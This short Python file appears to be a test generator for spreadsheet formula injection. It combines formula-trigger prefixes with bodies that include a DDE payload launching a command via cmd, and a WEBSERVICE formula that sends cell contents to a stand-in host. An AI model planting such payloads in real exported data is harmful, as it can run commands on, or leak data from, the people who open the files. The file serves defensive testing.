"""What a spreadsheet program would take for a formula, in a cell that is only text (B19)."""

BEGINS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"]
BODIES = [
    *("1+1", "cmd|'/C calc'!A0", 'DDE("soffice","x";"y")', 'HYPERLINK("http://x.example/","y")', "SUM(A1:A9)"),
    *('WEBSERVICE("http://x.example/"&A1)', "@SUM(1)", "IMPORTXML(1)", "2", "''", 'x"', "{1}"),
]


def payloads(count: int) -> list[str]:
    """So many texts, no two of them the same: every body after every beginning, again and again with other numbers."""
    pairs = len(BEGINS) * len(BODIES)
    made = [f"{BEGINS[n % len(BEGINS)]}{BODIES[n % pairs // len(BEGINS)]}" for n in range(count)]
    return [f"{text}+{n // pairs}" if n >= pairs else text for n, text in enumerate(made)]
